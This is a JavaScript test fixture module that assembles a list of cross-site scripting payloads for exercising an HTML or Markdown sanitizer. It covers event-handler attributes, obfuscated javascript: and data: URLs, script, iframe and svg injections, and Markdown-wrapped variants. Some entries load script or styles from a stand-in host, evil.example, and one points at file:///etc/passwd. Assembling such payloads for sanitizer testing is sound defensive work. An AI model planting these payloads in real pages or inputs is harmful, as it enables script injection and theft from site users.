// Text that tries to run: every event attribute of the HTML standard on elements
// that fire it without help, the ways of writing a script address, elements that
// load or style, Markdown's own constructs around them, and, where it is at hand,
// the Big List of Naughty Strings.
import { existsSync, readFileSync } from "node:fs";

// HTML standard, "Event handlers on elements, Document objects, and Window objects".
const events = (
  "abort auxclick beforeinput beforematch beforetoggle blur cancel canplay canplaythrough change click close contextlost contextmenu contextrestored copy " +
  "cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended error focus formdata input invalid keydown keypress " +
  "keyup load loadeddata loadedmetadata loadstart mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup paste pause play playing progress ratechange " +
  "reset resize scroll scrollend securitypolicyviolation seeked seeking select slotchange stalled submit suspend timeupdate toggle volumechange waiting wheel " +
  "animationstart animationend transitionend pointerenter pointerover pageshow hashchange message focusin begin"
).split(" ");
const carriers = ["img src=x", "svg", "body", "details open", "input autofocus", "a href=# tabindex=1"];

const addresses = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "  javascript:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)", "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "\u0001javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "//evil.example/x", "\\\\evil.example\\x", "file:///etc/passwd",
];

const elements = [
  "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<ScRiPt>alert(1)</sCrIpT>", "<script\n>alert(1)</script >", "<<script>alert(1)//<</script>",
  "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "<div style=background:url(//evil.example/x)>x</div>",
  "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)>", "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<math href=javascript:alert(1)>x</math>",
  "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>", "<marquee onstart=alert(1)>x</marquee>", "<table background=javascript:alert(1)><tr><td>x</table>", "<xmp><img src=x onerror=alert(1)></xmp>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><img src=x onerror=alert(1)></template>", "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml version=1?><img src=x onerror=alert(1)>",
  "<img src=`x`onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=x onerror\x0c=\x0calert(1)>", "<p/oncontextmenu=alert(1)>x", "<a\u00a0href=javascript:alert(1)>x</a>",
  "'\"><img src=x onerror=alert(1)>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "</p></article></main><script>alert(1)</script>",
];

const markdown = [
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")', "# <img src=x onerror=alert(1)> {#a onclick=alert(1)}", "[a]: javascript:alert(1)\n\n[a]",
  '```"><script>alert(1)</script>\nx\n```', "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "- [ ] <img src=x onerror=alert(1)>",
  "> <svg onload=alert(1)>", "<a href=\"https://a.example\" onclick=alert(1)>x</a>", "**<img src=x onerror=alert(1)>**", "![<img src=x onerror=alert(1)>](x)", "`<img src=x onerror=alert(1)>`",
];

const list = new URL("../../../shared/fixtures/strings/blns.json", import.meta.url);
const naughty = existsSync(list) ? JSON.parse(readFileSync(list, "utf8")).filter((s) => /[<>]|script|on\w+=|:\/\//i.test(s)) : [];

export const payloads = [
  ...new Set([
    ...events.flatMap((name, i) => [0, 1].map((k) => `<${carriers[(i + k) % carriers.length]} on${name}=alert(1)>x`)),
    ...addresses.flatMap((a) => [`[x](${a})`, `<a href="${a}">x</a>`, `![x](${a})`]),
    ...elements,
    ...markdown,
    ...naughty,
  ]),
];
